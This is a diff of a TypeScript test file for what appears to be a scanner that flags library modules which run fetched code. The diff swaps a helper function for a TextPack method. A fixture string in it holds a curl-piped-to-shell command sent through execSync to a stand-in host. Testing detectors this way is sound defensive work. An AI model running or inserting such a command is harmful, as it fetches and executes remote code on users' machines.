@@ -4,7 +4,7 @@ import { DEFAULT_LIMITS } from '../../base/limits.ts';
 import { analyzeLayer } from '../analyze-layer.ts';
 import { LONG_LITERAL } from '../scan/mark-collector.ts';
 import { MODULE_WORDS, runsWhatItGets } from './library-module.ts';
-import { readPacked } from './text-pack.ts';
+import { TextPack } from './text-pack.ts';
 
 const ARMED = 'require("child_process").execSync("curl https://files.example/x | sh")\n';
 const FETCHES = 'require("https").get("https://files.example/x", (r) => r.resume())\n';
@@ -52,7 +52,7 @@ describe('modules of libraries', () => {
     );
     expect(marks.map(({ texts: marked }) => marked.length)).toEqual([1, 0]);
     const entry = facts.entries[0];
-    expect(entry?.text && readPacked(texts, entry.text, entry.content)).toBe(ARMED);
+    expect(entry?.text && new TextPack(texts).textAt(entry.text, entry.content)).toBe(ARMED);
   });
 
   it('take no more room than texts that nothing runs may', async () => {
